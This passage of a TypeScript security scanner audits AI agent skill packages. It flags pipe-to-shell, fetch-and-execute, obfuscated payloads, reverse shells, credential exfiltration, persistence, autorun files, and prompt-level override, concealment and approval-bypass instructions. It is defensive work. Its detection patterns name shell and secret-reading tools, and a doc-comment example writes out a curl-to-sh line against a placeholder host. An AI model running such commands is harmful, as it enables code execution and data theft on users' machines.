  for (const m of scanFile(RENDER_URL, file)) {
    const url = m[1] ?? m[2] ?? "";
    if (!URL_DATA_PLACEHOLDER.test(url)) continue;
    const intent = intentAt(file, m.index);
    if (intent === "example" || intent === "explanation")
      emit("instruction.render-exfiltration", file, m.index, m[0].length, { severity: "medium", note: "shown as an example or warning; not gating" });
    else emit("instruction.render-exfiltration", file, m.index, m[0].length);
  }
  phraseRule(emit, file, "instruction.render-exfiltration", [RENDER_INSTRUCTION], true);
}

const RISKY_COMMAND = new RegExp(`${NETWORK_READ.source}|\\|\\s*(?:ba|z)?sh\\b|${CREDENTIAL.source}|\\benv\\b|printenv|base64`);

function dynamicContext(emit: Emit, file: AuditFile): void {
  if (file.kind !== "markdown") return;
  for (const m of scanFile(/(?:^|[\s(])!`([^`\n]{1,300})`/gm, file)) {
    const at = m.index + m[0].indexOf("!`");
    const kind = regionAt(file, at).kind;
    if (kind === "frontmatter") continue;
    if (kind === "prose" && isWarned(file, at, regionAt(file, at))) continue;
    emit(RISKY_COMMAND.test(m[1]!) ? "instruction.dynamic-context-risky" : "instruction.dynamic-context", file, at, m[0].length - (at - m.index));
  }
}

/** The frontmatter's hooks and allowed-tools. */
function frontmatter(emit: Emit, file: AuditFile): void {
  if (file.path !== "SKILL.md") return;
  const front = file.regions.find((r) => r.kind === "frontmatter");
  if (!front) return;
  const yaml = file.text.slice(front.start, front.end);
  const hooks = /^hooks\s*:/m.exec(yaml);
  if (hooks) emit("instruction.frontmatter-hooks", file, front.start + hooks.index, hooks[0].length);
  const tools = /^allowed-tools\s*:(.*(?:\n[ \t]+-.*)*)/m.exec(yaml);
  if (!tools) return;
  const at = front.start + tools.index;
  const items = tools[1]!
    .replace(/^\s*\[|\]\s*$/g, "")
    .split(/[\s,]+|\n\s*-\s*/)
    .map((t) => t.trim().replace(/^["'-]+|["']+$/g, ""))
    .filter(Boolean);
  if (items.some((t) => t === "*" || /^(?:Bash|Shell|PowerShell)\(\s*\*(?::\*)?\s*\)$/i.test(t) || /^(?:Bash|Shell)\(\s*:\*\s*\)$/i.test(t))) {
    emit("capability.allow-all-tools", file, at, tools[0].split("\n")[0]!.length);
  } else if (items.some((t) => /^(?:Bash|Shell|PowerShell)$/i.test(t))) {
    emit("capability.unrestricted-shell", file, at, tools[0].split("\n")[0]!.length);
  }
}

function remoteCode(emit: Emit, file: AuditFile): void {
  codeRule(emit, file, "remote.pipe-to-shell", PIPE_TO_SHELL, "high");
  codeRule(emit, file, "remote.fetch-execute", FETCH_EXECUTE, "high");
  codeRule(emit, file, "remote.url-install", URL_INSTALL, "high");
  codeRule(emit, file, "remote.miner", MINER);
  if (file.kind === "script" && DOWNLOAD_TO_FILE.test(file.text)) {
    // Download, make executable, run: the chmod is the step that turns data into code.
    for (const m of scanFile(MAKE_EXECUTABLE, file))
      emit("remote.fetch-execute", file, m.index, m[0].length, { note: "the file downloads something and makes it executable" });
  }
  if (file.kind === "script" && NETWORK_READ.test(file.text)) {
    const responses = new Set<string>();
    for (const m of matches(
      /(?:^|[;\s(])(?:const\s+|let\s+|var\s+)?([A-Za-z_$][\w$]*)\s*=\s*(?:await\s+)?(?:\(?\s*await\s+)?(?:requests\.get|urlopen|urllib\.request\.urlopen|httpx\.get|fetch)\s*\(/gm,
      file.text,
    )) {
      responses.add(m[1]!);
    }
    for (const m of matches(
      /(?:^|[;\s(])(?:const\s+|let\s+|var\s+)?([A-Za-z_$][\w$]*)\s*=\s*(?:await\s+)?([A-Za-z_$][\w$]*)\.(?:text|content|read|json)\b/gm,
      file.text,
    )) {
      if (responses.has(m[2]!)) responses.add(m[1]!);
    }
    for (const m of scanFile(EXEC_SINK_PY_JS, file)) {
      const name = m[1] ?? m[2] ?? m[3];
      if (name && responses.has(name)) emit("remote.fetch-execute", file, m.index, m[0].length, { note: `${name} holds a network response` });
    }
  }
}

function obfuscation(emit: Emit, file: AuditFile): void {
  codeRule(emit, file, "obfuscation.decode-execute", DECODE_EXECUTE);
  if (file.kind === "markdown" || file.kind === "binary") return;
  // A decoded value run later: name = b64decode(...); exec(name).
  const decoded = new Set<string>();
  for (const m of scanFile(DECODED_ASSIGN, file)) decoded.add(m[1]!);
  if (decoded.size > 0) {
    for (const m of scanFile(EXEC_SINK_PY_JS, file)) {
      const name = m[1] ?? m[2] ?? m[3];
      if (name && decoded.has(name)) emit("obfuscation.decode-execute", file, m.index, m[0].length, { note: `${name} holds decoded data` });
    }
    for (const m of scanFile(/\b(?:os\.system|os\.popen|subprocess\.\w+|execSync|exec|spawnSync|spawn)\s*\(\s*([A-Za-z_$][\w$]*)\s*[,)]/g, file)) {
      if (decoded.has(m[1]!)) emit("obfuscation.decode-execute", file, m.index, m[0].length, { note: `${m[1]} holds decoded data` });
    }
  }
  if (file.kind === "script") {
    for (const m of scanFile(OPAQUE_BLOB, file)) emit("obfuscation.opaque-blob", file, m.index, m[0].length);
    if (/\b(?:eval|exec|Function)\s*\(/.test(file.text))
      for (const m of scanFile(CHAR_CODES, file)) emit("obfuscation.decode-execute", file, m.index, m[0].length, { note: "built from character codes" });
  }
}

function exfiltration(emit: Emit, file: AuditFile): void {
  codeRule(emit, file, "exfiltration.reverse-shell", REVERSE_SHELL);
  if (file.kind === "binary") return;
  if (file.kind === "script" && SOCKET_CONNECT.test(file.text) && SPAWN_SHELL.test(file.text)) {
    const m = SPAWN_SHELL.exec(file.text)!;
    emit("exfiltration.reverse-shell", file, m.index, m[0].length, { note: "a socket is connected and a shell spawned in the same file" });
  }
  const reads: { index: number; length: number; env: boolean }[] = [];
  for (const m of scanFile(CREDENTIAL, file)) reads.push({ index: m.index, length: m[0].length, env: false });
  if (file.kind !== "markdown") for (const m of scanFile(ENV_DUMP, file)) reads.push({ index: m.index, length: m[0].length, env: true });
  if (reads.length === 0) return;
  if (file.kind === "markdown") {
    // Prose composes per line, a fence or a comment as a whole.
    for (const r of reads) {
      const region = regionAt(file, r.index);
      const unit =
        region.kind === "prose"
          ? around(file, r.index)
          : file.text.slice(Math.max(region.start, r.index - 20 * LOOKBACK), Math.min(region.end, r.index + 20 * LOOKBACK));
      const sends = region.kind === "prose" || region.kind === "comment" ? NET_SEND_PROSE.test(unit) || NET_SEND_CODE.test(unit) : NET_SEND_CODE.test(unit);
      if (!sends) continue;
      const intent = intentAt(file, r.index, false);
      if (intent === "code" || intent === "hidden" || intent === "instruction") emit("exfiltration.credential-send", file, r.index, r.length);
      else emit("exfiltration.credential-send", file, r.index, r.length, { severity: "medium", note: "shown as an example or warning; not gating" });
    }
    return;
  }
  const sends = NET_SEND_CODE.test(file.text);
  for (const r of reads) {
    if (sends)
      emit("exfiltration.credential-send", file, r.index, r.length, { note: r.env ? "the whole environment is read and the file sends data" : undefined });
    else emit(r.env ? "exfiltration.env-dump" : "exfiltration.credential-read", file, r.index, r.length);
  }
}

function persistence(emit: Emit, file: AuditFile): void {
  if (file.kind === "binary") return;
  const mdMax: Severity = "medium";
  for (const m of scanFile(STARTUP_FILE, file)) {
    if (!WRITE_OP.test(around(file, m.index))) continue;
    if (file.kind === "markdown" && regionAt(file, m.index).kind !== "comment")
      emit("persistence.shell-startup", file, m.index, m[0].length, { severity: mdMax, note: "written as a step for a person; not gating" });
    else emit("persistence.shell-startup", file, m.index, m[0].length);
  }
  for (const [id, res] of [
    ["persistence.scheduler", SCHEDULER],
    ["persistence.git-hooks", [GIT_HOOKS]],
  ] as const) {
    for (const re of res) {
      for (const m of scanFile(re, file)) {
        if (file.kind === "markdown" && regionAt(file, m.index).kind !== "comment")
          emit(id, file, m.index, m[0].length, { severity: mdMax, note: "written as a step for a person; not gating" });
        else emit(id, file, m.index, m[0].length);
      }
    }
  }
}

const SIDE_EFFECTS =
  /\b(?:subprocess|os\.system|os\.popen|os\.exec\w*|exec\s*\(|eval\s*\(|__import__|urllib|requests\.|socket\.|http\.client|shutil\.rmtree|webbrowser)/;
const PYTHON_AUTORUN = /(?:^|\/)(?:conftest\.py|setup\.py|sitecustomize\.py|usercustomize\.py|__main__\.py)$/;

function autorun(emit: Emit, file: AuditFile): void {
  const base = file.path.slice(file.path.lastIndexOf("/") + 1);
  if (PYTHON_AUTORUN.test(file.path) && base !== "__main__.py") {
    const m = SIDE_EFFECTS.exec(file.text);
    if (m) emit("autorun.python-import", file, m.index, m[0].length, { note: `${base} runs on import or collection` });
    else emit("autorun.file", file, 0, 0, { note: `${base} runs on import or collection` });
  }
  if (base.endsWith(".pth")) {
    const m = /^\s*import\s/m.exec(file.text);
    if (m) emit("autorun.python-import", file, m.index, m[0].length, { note: ".pth lines that start with import run at every Python start-up" });
    else emit("autorun.file", file, 0, 0);
  }
  if (base === "package.json" && file.kind !== "binary") {
    for (const m of scanFile(/"(preinstall|install|postinstall|prepare|prepublish|preprepare|postprepare|prepack|postpack)"\s*:/g, file)) {
      if (/"scripts"\s*:\s*\{/.test(file.text.slice(0, m.index))) emit("autorun.install-script", file, m.index, m[0].length);
    }
  }
  if (base === ".envrc") emit("autorun.on-open", file, 0, 0, { note: "direnv runs .envrc when the folder is entered" });
  if (/(?:^|\/)\.vscode\/tasks\.json$/.test(file.path)) {
    const m = /"runOn"\s*:\s*"folderOpen"/.exec(file.text);
    if (m) emit("autorun.on-open", file, m.index, m[0].length);
  }
  binaryKinds(emit, file, base);
}

const CODE_ENTRY =
  /(?:\.(?:sh|bash|py|pyc|js|mjs|cjs|ps1|bat|cmd|exe|dll|so|dylib|bin|elf|jar|class|pth|vbs|scr|app)|(?:^|\/)(?:conftest\.py|setup\.py|package\.json|\.envrc|vbaProject\.bin))$/i;
const OFFICE = /\.(?:docx|xlsx|pptx|odt|ods|odp|dotx|xltx|potx)$/i;

/** The names in a zip's central directory (no decompression). */
function zipEntryNames(bytes: Uint8Array): string[] {
  const names: string[] = [];
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  let eocd = -1;
  for (let i = bytes.length - 22; i >= Math.max(0, bytes.length - 65_557); i--) {
    if (view.getUint32(i, true) === 0x06054b50) {
      eocd = i;
      break;
    }
  }
  if (eocd === -1) return names;
  const count = view.getUint16(eocd + 10, true);
  let p = view.getUint32(eocd + 16, true);
  const dec = new TextDecoder();
  for (let n = 0; n < count && n < 10_000 && p + 46 <= bytes.length; n++) {
    if (view.getUint32(p, true) !== 0x02014b50) break;
    const nameLen = view.getUint16(p + 28, true);
    const extra = view.getUint16(p + 30, true);
    const comment = view.getUint16(p + 32, true);
    names.push(dec.decode(bytes.subarray(p + 46, p + 46 + nameLen)));
    p += 46 + nameLen + extra + comment;
  }
  return names;
}

/** The names in an uncompressed tar. */
function tarEntryNames(bytes: Uint8Array): string[] {
  const names: string[] = [];
  const dec = new TextDecoder();
  for (let p = 0, n = 0; p + 512 <= bytes.length && n < 10_000; n++) {
    const name = dec.decode(bytes.subarray(p, p + 100)).replace(/\0.*$/s, "");
    if (!name) break;
    names.push(name);
    const size =
      Number.parseInt(
        dec
          .decode(bytes.subarray(p + 124, p + 136))
          .replace(/\0.*$/s, "")
          .trim() || "0",
        8,
      ) || 0;
    p += 512 + Math.ceil(size / 512) * 512;
  }
  return names;
}

function startsWith(bytes: Uint8Array, magic: readonly number[], at = 0): boolean {
  if (bytes.length < at + magic.length) return false;
  for (let i = 0; i < magic.length; i++) if (bytes[at + i] !== magic[i]) return false;
  return true;
}

function binaryKinds(emit: Emit, file: AuditFile, base: string): void {
  const b = file.bytes;
  const exe = startsWith(b, [0x7f, 0x45, 0x4c, 0x46])
    ? "an ELF executable"
    : [
          [0xfe, 0xed, 0xfa, 0xce],
          [0xfe, 0xed, 0xfa, 0xcf],
          [0xce, 0xfa, 0xed, 0xfe],
          [0xcf, 0xfa, 0xed, 0xfe],
          [0xca, 0xfe, 0xba, 0xbe],
        ].some((m) => startsWith(b, m))
      ? "a Mach-O executable"
      : startsWith(b, [0x4d, 0x5a]) && b.length > 64
        ? "a PE (Windows) executable"
        : /\.(?:exe|dll|so|dylib|scr)$/i.test(base)
          ? "an executable by its name"
          : null;
  if (exe) {
    emit("autorun.executable-binary", file, 0, 0, { note: `the file is ${exe}` });
    return;
  }
  let names: string[] | null = null;
  let kind = "";
  if (startsWith(b, [0x50, 0x4b, 0x03, 0x04]) || startsWith(b, [0x50, 0x4b, 0x05, 0x06])) {
    names = zipEntryNames(b);
    kind = "zip";
    if (OFFICE.test(base)) {
      if (names.some((n) => /vbaProject\.bin$/i.test(n)))
        emit("autorun.archive-with-code", file, 0, 0, { note: "the document carries macros (vbaProject.bin)" });
      return;
    }
  } else if (startsWith(b, [0x75, 0x73, 0x74, 0x61, 0x72], 257)) {
    names = tarEntryNames(b);
    kind = "tar";
  } else if (startsWith(b, [0x1f, 0x8b])) kind = "gzip";
  else if (startsWith(b, [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])) kind = "7z";
  else if (startsWith(b, [0x52, 0x61, 0x72, 0x21])) kind = "rar";
  else if (startsWith(b, [0x42, 0x5a, 0x68])) kind = "bzip2";
  else if (startsWith(b, [0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00])) kind = "xz";
  if (!kind) return;
  const code = names?.filter((n) => CODE_ENTRY.test(n)) ?? [];
  if (code.length > 0)
    emit("autorun.archive-with-code", file, 0, 0, { note: `a ${kind} archive holding ${code.slice(0, 3).join(", ")}${code.length > 3 ? ", …" : ""}` });
  else emit("autorun.nested-archive", file, 0, 0, { note: `a ${kind} archive` });
}

// --- The scan ----------------------------------------------------------------------------------

const MAX_FINDINGS_PER_RULE_AND_FILE = 20;

/**
 * Audits one skill's files. Findings are sorted by severity, then file, line and column, with at
 * most one per rule and line and 20 per rule and file.
 * @example auditSkill([{ path: "scripts/setup.sh", bytes: utf8("curl https://x.example/i | sh\n") }]).findings[0].rule // "remote.pipe-to-shell"
 */
export function auditSkill(files: readonly AuditInputFile[]): SkillAudit {
  const findings: Finding[] = [];
  const seen = new Set<string>();
  const perRuleFile = new Map<string, number>();
  const emitFor =
    (): Emit =>
    (id, file, offset, length, options = {}) => {
      const r = ruleById(id);
      const { line, column } = file.kind === "binary" ? { line: 1, column: 1 } : positionOf(file, offset);
      const key = `${id}\0${file.path}\0${line}`;
      if (seen.has(key)) return;
      const countKey = `${id}\0${file.path}`;
      const count = perRuleFile.get(countKey) ?? 0;
      if (count >= MAX_FINDINGS_PER_RULE_AND_FILE) return;
      perRuleFile.set(countKey, count + 1);
      seen.add(key);
      findings.push({
        rule: id,
        severity: options.severity ?? r.severity,
        file: file.path,
        line,
        column,
        message: options.note ? `${r.title}: ${options.note}. ${r.help}` : `${r.title}. ${r.help}`,
        excerpt: file.kind === "binary" ? "" : excerptAt(file, offset, length),
      });
    };
  const emit = emitFor();
  for (const input of files) {
    const file = readAuditFile(input.path, input.bytes);
    autorun(emit, file);
    if (file.kind === "binary") continue;
    hiddenText(emit, file);
    confusableNames(emit, file);
    hiddenComments(emit, file);
    renderExfiltration(emit, file);
    dynamicContext(emit, file);
    frontmatter(emit, file);
    phraseRule(emit, file, "instruction.override", INSTRUCTION_OVERRIDE, false);
    phraseRule(emit, file, "instruction.concealment", CONCEALMENT, true);
    phraseRule(emit, file, "instruction.approval-bypass", APPROVAL_BYPASS, true);
    remoteCode(emit, file);
    obfuscation(emit, file);
    exfiltration(emit, file);
    persistence(emit, file);
  }
  findings.sort(compareFindings);
  return { rule_set: AUDIT_RULE_SET, findings };
}

/** Severity first (critical first), then file (bytewise), line, column, rule. */
export function compareFindings(a: Finding, b: Finding): number {
  return (
    SEVERITIES.indexOf(a.severity) - SEVERITIES.indexOf(b.severity) ||
    (a.file < b.file ? -1 : a.file > b.file ? 1 : 0) ||
    a.line - b.line ||
    a.column - b.column ||
    (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : 0)
  );
}

/** The most severe finding's severity, or null when there are none. */
export function worstSeverity(findings: readonly Finding[]): Severity | null {
  let worst: Severity | null = null;
  for (const f of findings) if (worst === null || severityRank(f.severity) > severityRank(worst)) worst = f.severity;
  return worst;
}
